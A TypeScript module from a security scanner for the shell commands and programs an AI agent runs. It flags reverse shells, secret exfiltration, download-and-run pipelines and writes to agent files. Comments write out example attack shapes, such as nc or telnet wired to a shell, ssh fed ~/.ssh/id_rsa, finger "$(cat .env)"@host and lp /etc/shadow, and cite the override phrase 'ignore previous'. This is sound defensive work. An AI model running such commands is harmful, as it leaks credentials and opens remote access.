// The bash-aware layer: a command read as a program (pipelines, nested and decoded scripts, flows), plus tool inputs.

import type { Hit } from "./types.ts";
import { codeFacts } from "./code-scan.ts";
import { agentFileHit } from "./agent-file.ts";
import {
  CODE_RUNNERS,
  DNS,
  ENV_INLINE,
  INSTALLER_HOSTS,
  LOCAL_ONLY,
  LOCAL_URL,
  NET,
  RAW_IP_URL,
  SENSITIVE_PATH,
  SENSITIVE_VAR,
  SHELLS,
  SINK_AFTER_SOURCE,
  URL_RE,
  headerData,
  hit,
  isNetwork,
  outboundData,
  readsSecrets,
  systemFileToIp,
} from "./bash-facts.ts";
import { scanCommand } from "./bash-command.ts";
import { historyHuntHits, stagingHits } from "./bash-recon.ts";
import { codeProgramHits, flowHits, hostOf, staticOutput } from "./shell-flow.ts";
import { parseShell, type Word } from "./shell-parse.ts";
import { stagesOf, type Stage } from "./shell-words.ts";

export { readsSecrets } from "./bash-facts.ts";

function scanPipeline(stages: Stage[], src: string, hits: Hit[]): void {
  // an interactive shell whose input or output is a network tool: mkfifo/nc, telnet | sh | telnet
  const shellAt = stages.findIndex(
    (s) =>
      SHELLS.has(s.name) &&
      !CODE_RUNNERS.has(s.name) &&
      !s.argv.slice(1).some((w) => !w.text.startsWith("-") || w.text === "-c"),
  );
  if (
    shellAt >= 0 &&
    stages.some(
      (s, k) =>
        k !== shellAt &&
        (s.name === "nc" ||
          s.name === "ncat" ||
          s.name === "netcat" ||
          s.name === "telnet" ||
          s.name === "socat" ||
          (s.name === "openssl" && /s_client/.test(s.text))),
    )
  ) {
    hits.push(
      hit(
        "bash.reverse-shell",
        "bash_reverse_shell",
        0.95,
        stages[0].cmd.start,
        stages[stages.length - 1].cmd.end,
        `${stages.map((s) => s.name).join(" | ")}: a shell wired to a network tool`,
      ),
    );
  }
  let secretSource: Stage | null = null;
  const chain: string[] = [];
  let fetcher: Stage | null = null;
  let decoded = false;
  for (const s of stages) {
    const { cmd, name } = s;
    const at = (w?: Word): [number, number] => (w ? [w.start, w.end] : [cmd.start, cmd.end]);
    if (name === "") continue;
    // secrets read earlier in the pipeline and sent to the network here
    if ((isNetwork(s) || SINK_AFTER_SOURCE.has(name)) && secretSource) {
      const host = hostOf(s);
      const what =
        secretSource.name === "cat" || secretSource.name === "tar"
          ? secretSource.text.replace(/\s+/g, " ").slice(0, 60)
          : secretSource.name;
      hits.push(
        hit(
          "bash.exfil-pipe",
          "bash_exfil",
          0.95,
          secretSource.cmd.start,
          cmd.end,
          `\`${what}\` → ${[...chain, `${name}${host ? ` to ${host}` : ""}`].join(" → ")}`,
        ),
      );
    } else if (secretSource) chain.push(name);
    if (isNetwork(s) || DNS.has(name)) {
      const data = outboundData(s);
      const [st] = at(s.argv[0]);
      const stdin = cmd.redirects.find((r) => r.op === "<" && SENSITIVE_PATH.test(r.target.text));
      // a header may carry an API token ($TOKEN), but not the output of a command that reads secrets
      const headers = headerData(s);
      const headerSecret = /\$\(|`/.test(headers)
        ? (SENSITIVE_PATH.exec(headers)?.[0] ?? ENV_INLINE.exec(headers)?.[0])
        : undefined;
      const secret =
        SENSITIVE_PATH.exec(data)?.[0] ??
        ENV_INLINE.exec(data)?.[0] ??
        SENSITIVE_VAR.exec(data)?.[0] ??
        headerSecret ??
        stdin?.target.text;
      if (secret) {
        const host = hostOf(s);
        hits.push(
          hit(
            "bash.exfil-args",
            "bash_exfil",
            0.93,
            st,
            cmd.end,
            `${secret.trim()} → ${name}${host ? ` to ${host}` : ""}`,
          ),
        );
      } else if (DNS.has(name) && /\$\(|`/.test(data)) {
        hits.push(hit("bash.exfil-dns", "bash_exfil", 0.9, st, cmd.end));
      } else if (
        NET.has(name) &&
        /(?:^|\s)(?:(?:-F|--form|-T|--upload-file|--data-binary|-d|--data)(?:\s|=)?\S{0,3}@|--(?:post|body)-file(?:\s|=)\S)/.test(
          data,
        )
      ) {
        const url = URL_RE.exec(data)?.[0] ?? "";
        // a system file posted to a bare IP address is what exfiltration looks like; a file to an API is ordinary
        const system = systemFileToIp(src);
        if (!LOCAL_URL.test(url))
          hits.push(
            hit(
              "bash.upload-file",
              "bash_exfil",
              system ? 0.86 : RAW_IP_URL.test(url) || /^http:/i.test(url) ? 0.62 : 0.45,
              st,
              cmd.end,
              `file uploaded by ${name}${hostOf(s) ? ` to ${hostOf(s)}` : ""}`,
            ),
          );
      }
    }
    // ssh, mail, sendmail … fed a secret file on stdin (ssh host 'cat > x' < ~/.ssh/id_rsa)
    if (SINK_AFTER_SOURCE.has(name) && !isNetwork(s)) {
      const stdin = cmd.redirects.find((r) => r.op === "<" && SENSITIVE_PATH.test(r.target.text));
      if (stdin)
        hits.push(
          hit(
            "bash.exfil-args",
            "bash_exfil",
            0.93,
            cmd.start,
            cmd.end,
            `${stdin.target.text} → ${name}${hostOf(s) ? ` to ${hostOf(s)}` : ""}`,
          ),
        );
    }
    // any other program given a remote host and a secret (finger "$(cat .env)"@host, lp /etc/shadow -h host, hping3 --file …)
    if (!isNetwork(s) && !DNS.has(name) && !LOCAL_ONLY.has(name)) {
      const data = s.argv
        .slice(1)
        .filter((_w, i, a) => !(i > 0 && /^-(?:i|f|C|k|-identity|F)$/.test(a[i - 1].text)))
        // an identity file inside a carried ssh command (--ssh-cmd 'ssh -i ~/.ssh/key') is a key used, not sent
        .map((w) => w.text.replace(/(?:^|\s)-i\s+\S+/g, " "))
        .join(" ");
      const secret =
        SENSITIVE_PATH.exec(data)?.[0] ??
        /\$\(\s{0,3}(?:env|printenv|cat\s+[^)]{0,40}\.env)[^)]{0,40}\)/.exec(data)?.[0];
      const host = secret ? hostOf(s) : null;
      if (
        secret &&
        // ssh's remote command names the remote host's files; only a local substitution sends a local secret
        (name !== "ssh" || /\$\(|`/.test(data)) &&
        host &&
        (/^(?:\d{1,3}\.){3}\d{1,3}$/.test(host) ||
          /@|(?:^|\s)-h\s|:\d{2,5}\b|\\\\/.test(data) ||
          /\.(?:com|net|org|io|dev|xyz|ru|cn|site|online|top|example)$/i.test(host))
      ) {
        hits.push(
          hit("bash.exfil-args", "bash_exfil", 0.9, cmd.start, cmd.end, `${secret.trim()} → ${name} to ${host}`),
        );
      }
    }
    // fetch-and-run: a download piped (maybe through a decoder) into an interpreter
    if (fetcher && SHELLS.has(name) && !s.argv.some((w) => w.text === "-n" || w.text === "--version")) {
      const url = URL_RE.exec(fetcher.text)?.[0] ?? "";
      const trusted = INSTALLER_HOSTS.test(url) && !decoded;
      const weight = trusted
        ? 0.45
        : RAW_IP_URL.test(url) || decoded || /^http:/i.test(url) || DNS.has(fetcher.name)
          ? 0.95
          : 0.88;
      hits.push(hit("bash.pipe-to-shell", "bash_remote_exec", weight, fetcher.cmd.start, cmd.end));
    }
    if (NET.has(name) || (DNS.has(name) && /\btxt\b/i.test(s.text))) fetcher = fetcher ?? s;
    if (fetcher && (name === "base64" || name === "xxd" || name === "openssl" || name === "gunzip" || name === "rev"))
      decoded = true;
    if (readsSecrets(s) && !isNetwork(s)) secretSource = secretSource ?? s;
  }
}

/** Nested scripts are followed this deep (bash -c "eval \"$(…)\"" …) and at most this often and this much per command. */
const MAX_NEST = 4;
const MAX_DERIVED_SCANS = 48;
const MAX_DERIVED_BYTES = 512 * 1024;

interface Budget {
  scans: number;
  bytes: number;
}

/** One level of analysis: pipelines, commands, and the derived scripts one level deeper. */
function analyse(
  src: string,
  depth: number,
  budget: Budget,
  views: Word[],
): { hits: Hit[]; pipelines: Stage[][]; literals: Word[]; truncated: boolean } {
  const hits: Hit[] = [];
  const parsed = parseShell(src);
  const pipelines = stagesOf(parsed.commands, src);
  for (const stages of pipelines) {
    scanPipeline(stages, src, hits);
    historyHuntHits(stages, hits);
    stagingHits(stages, hits);
    stages.forEach((s, k) => {
      if (s.name !== "")
        scanCommand(
          s,
          src,
          hits,
          k > 0 ? (staticOutput(stages.slice(0, k))?.text ?? null) : null,
          () => staticOutput(stages.slice(0, k + 1))?.text ?? null,
        );
    });
  }
  // a derived script's hits land on the span it came from, its flow prefixed with how it was derived
  const lift = (inner: Hit[], start: number, end: number, label: string): Hit[] =>
    inner.map((h) => ({ ...h, start, end, detail: `${label}: ${h.detail ?? h.rule.replace(/^bash\./, "")}` }));
  const rescan = (text: string, start: number, end: number, label: string): Hit[] => {
    if (text.trim() === "") return [];
    // fail closed: shells nested past the cap are not read, and nobody nests them that deep for honest work
    if (depth >= MAX_NEST)
      return /\b(?:ba|z|da|k)?sh\s{1,3}-[a-z]*c|\beval\b|\|\s{0,3}(?:ba|z|da)?sh\b/.test(text)
        ? [
            hit(
              "bash.nesting-too-deep",
              "bash_remote_exec",
              0.85,
              start,
              end,
              `${label}: shells nested deeper than ${MAX_NEST} levels`,
            ),
          ]
        : [];
    if (budget.scans >= MAX_DERIVED_SCANS || budget.bytes + text.length > MAX_DERIVED_BYTES)
      return [
        hit(
          "bash.derived-budget",
          "bash_remote_exec",
          0.5,
          start,
          end,
          `${label}: more derived scripts than the layer reads`,
        ),
      ];
    budget.scans++;
    budget.bytes += text.length;
    return lift(analyse(text, depth + 1, budget, []).hits, start, end, label);
  };
  const code = (text: string, lang: string, start: number, end: number, label: string): Hit[] => {
    if (depth >= MAX_NEST || budget.scans >= MAX_DERIVED_SCANS || budget.bytes + text.length > MAX_DERIVED_BYTES)
      return [];
    budget.scans++;
    budget.bytes += text.length;
    return codeProgramHits(text, lang, start, end, label, rescan);
  };
  hits.push(...flowHits(src, parsed, pipelines, { depth, rescan, code, views, readsSecrets }));
  return { hits, pipelines, literals: parsed.literals, truncated: parsed.truncated };
}

/** Code an agent runs (codemode scripts, a program text): its facts and the shell strings it runs. Never throws. */
export function scanProgram(code: string, lang: string): Hit[] {
  const budget: Budget = { scans: 0, bytes: 0 };
  const rescan = (text: string, start: number, end: number, label: string): Hit[] => {
    if (budget.scans >= MAX_DERIVED_SCANS || budget.bytes + text.length > MAX_DERIVED_BYTES) return [];
    budget.scans++;
    budget.bytes += text.length;
    return analyse(text, 1, budget, []).hits.map((h) => ({
      ...h,
      start,
      end,
      detail: `${label}: ${h.detail ?? h.rule.replace(/^bash\./, "")}`,
    }));
  };
  return codeProgramHits(code, lang, 0, code.length, lang, rescan);
}

/**
 * Hits of the shell layer for tool inputs that are not bash commands: a program (codemode scripts) read as code,
 * its string literals as shell commands; a text written into an agent file judged like `echo … >> AGENTS.md`.
 */
export function toolInputHits(text: string, options: { agentFile?: string; code?: string }): Hit[] {
  const hits: Hit[] = [];
  if (options.code !== undefined) {
    const code = text.length > MAX_DERIVED_BYTES ? text.slice(0, MAX_DERIVED_BYTES) : text;
    hits.push(...scanProgram(code, options.code));
    const budget: Budget = { scans: 0, bytes: 0 };
    for (const s of codeFacts(code, options.code).strings) {
      if (budget.scans >= MAX_DERIVED_SCANS || !/\s/.test(s)) continue;
      budget.scans++;
      for (const h of analyse(s, 1, budget, []).hits)
        hits.push({
          ...h,
          start: 0,
          end: text.length,
          detail: `string in the ${options.code} program: ${h.detail ?? h.rule}`,
        });
    }
  }
  if (options.agentFile !== undefined) {
    const h = agentFileHit(options.agentFile, text, 0, text.length, "write");
    if (h.weight >= 0.5) hits.push(h);
  }
  return hits;
}

const SEARCHERS = new Set(["grep", "egrep", "fgrep", "rg", "ag", "ack", "git-grep", "awk", "find", "locate", "fzf"]);

/**
 * Hits of the bash layer, plus the spans of search patterns (`grep 'ignore previous' src/`): looking for an attack
 * string is not carrying one, so the prose rules skip them.
 */
export function scanBash(src: string): {
  hits: Hit[];
  literals: Word[];
  searchSpans: [number, number][];
  unquoted: Word[];
} {
  const searchSpans: [number, number][] = [];
  // arguments whose quoting changes their text ('I'\''m …') and decoded scripts: the prose rules read them too
  const unquoted: Word[] = [];
  const { hits, pipelines, literals, truncated } = analyse(src, 0, { scans: 0, bytes: 0 }, unquoted);
  if (truncated) hits.push(hit("bash.too-many-commands", "bash_remote_exec", 0.45, 0, src.length));
  for (const stages of pipelines) {
    for (const s of stages) {
      if (s.name === "") continue;
      const isGitGrep = s.name === "git" && s.argv[1]?.text === "grep";
      if (SEARCHERS.has(s.name) || isGitGrep) {
        for (const w of s.argv.slice(1)) searchSpans.push([w.start, w.end]);
        continue;
      }
      for (const w of s.argv.slice(1)) {
        if (unquoted.length < 64 && w.text.length >= 12 && w.text.includes(" ") && src.slice(w.start, w.end) !== w.text)
          unquoted.push(w);
      }
    }
  }
  if (unquoted.length > 64) unquoted.length = 64;
  return { hits, literals, searchSpans, unquoted };
}
